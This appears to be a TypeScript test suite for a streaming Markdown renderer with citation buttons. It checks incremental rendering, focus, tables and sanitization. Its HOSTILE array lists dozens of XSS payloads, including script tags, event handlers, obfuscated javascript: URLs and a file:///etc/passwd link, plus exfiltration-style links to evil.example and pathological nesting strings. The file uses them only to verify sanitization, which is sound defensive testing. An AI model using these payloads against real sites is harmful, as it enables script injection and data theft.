import { expect } from '@open-wc/testing';
import { MarkdownStream } from './markdown-stream.js';

const SAMPLES: Record<string, string> = {
  'paragraphs with claims':
    'Give it **at once**.[1] Do not wait.[2]\n\nRepeat after 5 minutes [1], [2].\n\nThen stop.\n',
  'a dose table':
    'Doses:\n\n| Age | Dose | Source |\n|---|---:|---|\n| 12 years | 500 micrograms | [2] |\n| 6 years | 300 micrograms | [2] |\n\nAfter the table.\n',
  'nested lists':
    '1. One\n   - inner *a*\n   - inner `b`\n2. Two\n\n   with a paragraph\n\n- [x] done\n- [ ] open\n',
  'headings, rules and quotes':
    'Title\n=====\n\n## Second\n\n------------------------------\n\n> quoted\n> further\nand lazy\n\nEnd.\n',
  'code that is not closed': 'Before\n\n```js\nconst a = [1];\n\nconst b = 2;\n',
  'escaped markers': 'Not a citation: \\[1\\] and `[1]`, but this is.[1]\n',
  'line ends of Windows': 'One [1].\r\n\r\nTwo.\r\n\r\n- a\r\n- b\r\n\r\nThree.\r\n\r\nFour.\r\n',
  'text that looks like a definition': 'See [a] below.\n\n[a]: https://example.org\n\nEnd [a].\n',
  'an unclosed comment': 'A\n\n<!-- never closed\n\nB\n\nC\n',
  'links and addresses':
    'A [link](https://example.org/a_b), https://example.org and <me@example.org>.\n\nEnd.\n',
};

const HOSTILE = [
  '<script>window.harmed = true</script>',
  '<img src=x onerror="window.harmed = true">',
  '<svg onload="window.harmed = true"></svg>',
  '<svg><script>window.harmed = true</script></svg>',
  '<iframe src="javascript:parent.harmed = true"></iframe>',
  '<iframe srcdoc="<script>parent.harmed = true</script>"></iframe>',
  '<body onload="window.harmed = true">',
  '<a href="javascript:window.harmed = true" onclick="window.harmed = true">x</a>',
  '<style>@import url(/harm.css);</style>',
  '<link rel="stylesheet" href="/harm.css">',
  '<object data="/harm"></object>',
  '<embed src="/harm">',
  '<video src="/harm" onerror="window.harmed = true"></video>',
  '<audio src="/harm" autoplay></audio>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input autofocus onfocus="window.harmed = true"></form>',
  '<details open ontoggle="window.harmed = true">x</details>',
  '<math><mtext><img src=x onerror="window.harmed = true"></mtext></math>',
  '<template><img src=x onerror="window.harmed = true"></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.harmed=1>"></noscript>',
  '<!--><img src=x onerror="window.harmed = true">-->',
  '<![CDATA[<img src=x onerror="window.harmed = true">]]>',
  '<?php echo "<img src=x>"; ?>',
  '![alt](/harm.png)',
  '![alt](https://evil.example/?q=secret "title")',
  '![](javascript:window.harmed=true)',
  '![a](data:image/svg+xml,<svg onload="window.harmed=true"/>)',
  '[![alt](/harm.png)](https://evil.example)',
  '[x](javascript:window.harmed=true)',
  '[x](JaVaScRiPt:window.harmed=true)',
  '[x](java\tscript:window.harmed=true)',
  '[x](&#106;avascript:window.harmed=true)',
  '[x](&#x6A;avascript&colon;window.harmed=true)',
  '[x](vbscript:harm)',
  '[x](data:text/html,<script>window.harmed=true</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](<javascript:window.harmed=true>)',
  '<javascript:window.harmed=true>',
  '<data:text/html,x>',
  '[x](https://a.example" onmouseover="window.harmed=true)',
  '`<img src=x onerror="window.harmed = true">`',
  '```html\n<script>window.harmed = true</script>\n```',
  '| <img src=x onerror="window.harmed = true"> |\n|---|\n| <script>window.harmed = true</script> |',
  '# <img src=x onerror="window.harmed = true">',
  '- <img src=x onerror="window.harmed = true">',
  '> <img src=x onerror="window.harmed = true">',
  '*<img src=x onerror="window.harmed = true">*',
  '[<img src=x onerror="window.harmed = true">](https://example.org)',
  '&lt;img src=x onerror="window.harmed = true"&gt;',
  `${'>'.repeat(20_000)} deep`,
  `${'- '.repeat(5_000)}deep`,
  `${'['.repeat(20_000)}deep`,
  `${'*'.repeat(20_000)}deep`,
  `${'**a '.repeat(3_000)}`,
  `${'_a'.repeat(20_000)}`,
  `${'a.'.repeat(20_000)}@`,
  `${'<a '.repeat(5_000)}`,
  `${'\u202e'}[1]\u0000`,
];

const ALLOWED = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DEL EM FIGURE H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
);

function button(number: number): HTMLElement {
  const made = document.createElement('button');
  made.setAttribute('aria-label', `Source ${number}`);
  made.textContent = String(number);
  return made;
}

function stream(known: ReadonlySet<number> = new Set([1, 2])) {
  const root = document.createElement('div');
  document.body.append(root);
  return {
    root,
    stream: new MarkdownStream(root, (number) => (known.has(number) ? button(number) : undefined)),
  };
}

function whole(text: string, known?: ReadonlySet<number>): HTMLElement {
  const made = stream(known);
  made.stream.update(text, true);
  return made.root;
}

const sources = (root: Element) =>
  [...root.querySelectorAll('button')].map((each) => each.getAttribute('aria-label'));

afterEach(() => document.body.replaceChildren());

describe('streamed Markdown', () => {
  for (const [name, text] of Object.entries(SAMPLES)) {
    it(`ends as it would have been shown at once: ${name}`, () => {
      const { root, stream: streamed } = stream();
      for (let length = 1; length <= text.length; length += 1) streamed.update(text.slice(0, length), false);
      streamed.update(text, true);
      expect(root.isEqualNode(whole(text)), root.textContent).to.equal(true);
    });

    it(`ends the same when it comes in two pieces, wherever it is cut: ${name}`, () => {
      const expected = whole(text);
      for (let cut = 1; cut < text.length; cut += 1) {
        const { root, stream: streamed } = stream();
        streamed.update(text.slice(0, cut), false);
        streamed.update(text, true);
        expect(root.isEqualNode(expected), `cut at ${cut}: ${root.textContent}`).to.equal(true);
        root.remove();
      }
    });
  }

  it('never replaces what is settled, and lexes it once', () => {
    const text = Array.from({ length: 200 }, (_, at) => `Paragraph ${at} says **something**.[1]`).join(
      '\n\n',
    );
    const { root, stream: streamed } = stream();
    let settled: ChildNode[] = [];
    for (let length = 0; length <= text.length; length += 7) {
      streamed.update(text.slice(0, length), false);
      const nodes = [...root.childNodes];
      expect(settled.every((node, at) => nodes[at] === node)).to.equal(true);
      settled = nodes.slice(0, -2);
    }
    expect(root.children).to.have.length(200);
    // Two open blocks of at most 41 characters for each of the updates.
    expect(streamed.lexed).to.be.below((text.length / 7) * 41 * 4);
  });

  it('keeps the focus on a citation in the paragraph that is being written', () => {
    const { root, stream: streamed } = stream();
    streamed.update('Claim.[1] And', false);
    const pressed = root.querySelector('button')!;
    pressed.focus();
    streamed.update('Claim.[1] And then some **more', false);
    expect(root.querySelector('button')).to.equal(pressed);
    expect(document.activeElement).to.equal(pressed);
  });

  it('puts a citation behind the word before it, on one line', () => {
    const claim = whole('Do not wait for access [1].').querySelector('.nw');
    expect(claim?.textContent).to.equal('access1');
  });

  it('hides a marker until its source is known, without a trace of brackets', () => {
    const known = new Set<number>();
    const { root, stream: streamed } = stream(known);
    for (const text of ['Claim.[', 'Claim.[1', 'Claim.[1]', 'Claim.[1] More']) {
      streamed.update(text, false);
      expect(root.textContent).to.match(/^Claim\.( More)?$/);
    }
    known.add(1);
    streamed.update('Claim.[1] More', false);
    expect(sources(root)).to.deep.equal(['Source 1']);
  });

  it('fills a marker of a settled block in place when its source becomes known', () => {
    const known = new Set<number>();
    const text = 'First.[1]\n\nSecond.\n\nThird.\n\nFourth.';
    const { root, stream: streamed } = stream(known);
    streamed.update(text, false);
    const first = root.firstElementChild;
    known.add(1);
    streamed.update(text, false);
    expect(root.firstElementChild).to.equal(first);
    expect(sources(root)).to.deep.equal(['Source 1']);
  });

  it('says of a marker without a source that it is unverified, once the answer is complete', () => {
    const root = whole('Claim.[7] Other.[1]');
    expect(sources(root)).to.deep.equal(['Source 1']);
    expect(root.textContent).to.contain('unverified');
  });

  it('takes citations that come after the end', () => {
    const known = new Set<number>();
    const { root, stream: streamed } = stream(known);
    streamed.update('Claim.[1]', true);
    known.add(1);
    streamed.update('Claim.[1]', true);
    expect(sources(root)).to.deep.equal(['Source 1']);
    expect(root.textContent).not.to.contain('unverified');
  });

  it('leaves escaped markers and those in code as text', () => {
    const root = whole('Text \\[1\\] and `[1]`.');
    expect(sources(root)).to.be.empty;
    expect(root.textContent).to.equal('Text [1] and [1].');
  });

  it('gives each cell of a table its column', () => {
    const root = whole(SAMPLES['a dose table']!);
    const cells = [...root.querySelectorAll('td')].map((cell) => cell.getAttribute('data-label'));
    expect(cells).to.deep.equal(['Dose', 'Source', 'Dose', 'Source']);
    expect(root.querySelectorAll('th[scope="row"]')).to.have.length(2);
  });

  it('takes a long rule for a rule, not for nesting', () => {
    const root = whole(`A\n\n${'-'.repeat(40)}\n\n**B**`);
    expect(root.querySelector('hr')).not.to.equal(null);
    expect(root.querySelector('strong')?.textContent).to.equal('B');
  });

  for (const [at, text] of HOSTILE.entries()) {
    it(`shows hostile text ${at + 1} as text: ${text.slice(0, 40)}`, () => {
      delete (window as { harmed?: unknown }).harmed;
      for (const isWhole of [false, true]) {
        const { root, stream: streamed } = stream();
        const start = performance.now();
        streamed.update(`Before.\n\n${text}\n\nAfter.\n\nEnd.`, isWhole);
        expect(performance.now() - start, 'milliseconds').to.be.below(1_000);
        for (const element of root.querySelectorAll('*')) {
          expect(ALLOWED.has(element.tagName), element.tagName).to.equal(true);
          for (const { name } of element.attributes) {
            expect([
              'aria-label',
              'class',
              'data-label',
              'href',
              'rel',
              'scope',
              'start',
              'target',
            ]).to.include(name);
          }
          if (element instanceof HTMLAnchorElement) {
            expect(['http:', 'https:', 'mailto:']).to.include(element.protocol);
            expect(element.rel).to.equal('noopener noreferrer');
          }
        }
        expect((window as { harmed?: unknown }).harmed).to.equal(undefined);
      }
      expect(performance.getEntriesByType('resource').some(({ name }) => /harm|evil/.test(name))).to.equal(
        false,
      );
    });
  }
});
